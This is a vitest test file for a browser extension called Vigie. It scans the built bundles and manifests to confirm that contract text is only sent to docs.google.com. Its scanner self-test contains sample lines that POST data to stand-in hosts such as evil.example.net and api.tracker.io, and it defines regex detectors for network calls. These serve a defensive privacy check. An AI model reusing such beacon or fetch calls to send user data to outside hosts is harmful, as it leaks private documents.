/**
 * "The contract text never leaves the browser": the built bundles contain no network call to a remote host other
 * than the document hosts Vigie reads with the user's session (Google Docs' own export).
 * Reads .output (npm test builds it before running vitest).
 */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { AUTOMATIC_HOST_PERMISSIONS } from '../../hosts/automatic';

const ROOT = resolve(import.meta.dirname, '../..');
const BUILDS = ['.output/chrome-mv3', '.output/firefox-mv2'];

/** Hosts a request may go to: the documents the user asked Vigie to read. */
const ALLOWED_HOSTS = ['docs.google.com'];

/**
 * URLs that appear in bundled libraries and are never fetched: XML namespaces, licence and documentation links
 * in comments and error messages, schema identifiers.
 */
const INERT_URL = [
  /^https?:\/\/www\.w3\.org\//,
  /^https?:\/\/schemas\.(openxmlformats|microsoft)\.(org|com)\//,
  /^https?:\/\/purl\.(org|oclc\.org)\//,
  /^https?:\/\/www\.xfa\.org\/schema\//, // pdf.js: XFA form namespaces
  /^https:\/\/foo\.bar$/, // pdf.js: dummy base to parse relative link targets
  /^https?:\/\/\$\{\w+\}$/, // host from a variable: pdf.js link normalisation, the Docs export host (docs.google.com)
  /\*/, // match patterns (signing-site detection), not URLs
  /^https?:\/\/(www\.)?(mozilla\.org|github\.com|reactjs\.org|preactjs\.com|developer\.mozilla\.org|tc39\.es)\//,
  /^https?:\/\/(ns\.adobe\.com|www\.apache\.org|opensource\.org|www\.npmjs\.com|wxt\.dev)\b/,
  /^https?:\/\/(localhost|127\.0\.0\.1)\b/,
  /^https?:\/\/(www\.)?legifrance\.gouv\.fr\//, // legal basis links shown to the user, opened only by a click
  /^https?:\/\/(www\.)?example\.(com|org)\b/,
];

/** Network APIs called with a literal remote URL: fetch("https://…"), xhr.open("GET","https://…"), new WebSocket("wss://…"). */
const NETWORK_CALL = /\b(fetch|sendBeacon|open|WebSocket|EventSource)\s*\(\s*(?:["'`][A-Z]+["'`]\s*,\s*)?["'`]((?:https?|wss?):\/\/[^"'`\s]+)/g;
const URL_LITERAL = /["'`]((?:https?|wss?):\/\/[^"'`\s)]+)/g;

function jsFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return jsFiles(path);
    return /\.(m?js|html)$/.test(name) ? [path] : [];
  });
}

const hostOf = (url: string) => {
  try {
    return new URL(url.replace(/^wss?:/, 'https:')).hostname;
  } catch {
    return '';
  }
};

export function remoteCalls(code: string): string[] {
  return [...code.matchAll(NETWORK_CALL)].map((m) => m[2]!).filter((url) => !ALLOWED_HOSTS.includes(hostOf(url)));
}

export function unexpectedUrls(code: string): string[] {
  return [...code.matchAll(URL_LITERAL)]
    .map((m) => m[1]!)
    .filter((url) => !ALLOWED_HOSTS.includes(hostOf(url)) && !INERT_URL.some((re) => re.test(url)));
}

describe('privacy of the built extension', () => {
  for (const build of BUILDS) {
    const dir = join(ROOT, build);
    it(`${build}: no network call to a host other than ${ALLOWED_HOSTS.join(', ')}`, () => {
      expect(existsSync(join(dir, 'manifest.json')), `no build in ${build}: run npm run build / build:firefox`).toBe(true);
      const offenders: string[] = [];
      for (const file of jsFiles(dir)) {
        const code = readFileSync(file, 'utf8');
        for (const url of [...remoteCalls(code), ...unexpectedUrls(code)]) offenders.push(`${relative(dir, file)}: ${url}`);
      }
      expect([...new Set(offenders)]).toEqual([]);
    });
    it(`${build}: host access only to the hosts reviewed automatically, no remote code`, () => {
      const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
      const granted = [...(manifest.host_permissions ?? []), ...(manifest.permissions ?? [])].filter(
        (p: string) => p.includes('://') || p === '<all_urls>',
      );
      // Google Docs and the signing sites (hosts/automatic.ts); never localhost (e2e builds only) nor every site.
      expect(granted.filter((p: string) => !AUTOMATIC_HOST_PERMISSIONS.includes(p))).toEqual([]);
      // Any other site is only ever *optional*, asked for one origin at a time (PDF viewer's ?file=URL).
      const optional = [...(manifest.optional_host_permissions ?? []), ...(manifest.optional_permissions ?? [])];
      expect(optional.filter((p: string) => p !== '*://*/*')).toEqual([]);
      expect(JSON.stringify(manifest.content_security_policy ?? '')).not.toMatch(/https?:/);
    });
  }

  it('the scanner catches remote calls (it cannot pass vacuously)', () => {
    expect(remoteCalls('fetch("https://evil.example.net/x",{method:"POST"})')).toEqual(['https://evil.example.net/x']);
    expect(remoteCalls('x.open("POST","https://api.tracker.io/t")')).toEqual(['https://api.tracker.io/t']);
    expect(remoteCalls('navigator.sendBeacon(`https://b.io/`)')).toEqual(['https://b.io/']);
    expect(remoteCalls('fetch("https://docs.google.com/document/d/1/export?format=txt")')).toEqual([]);
    expect(unexpectedUrls('const u = "https://collect.analytics.net/v1"')).toEqual(['https://collect.analytics.net/v1']);
    expect(unexpectedUrls('xmlns="http://www.w3.org/2000/svg"')).toEqual([]);
  });
});
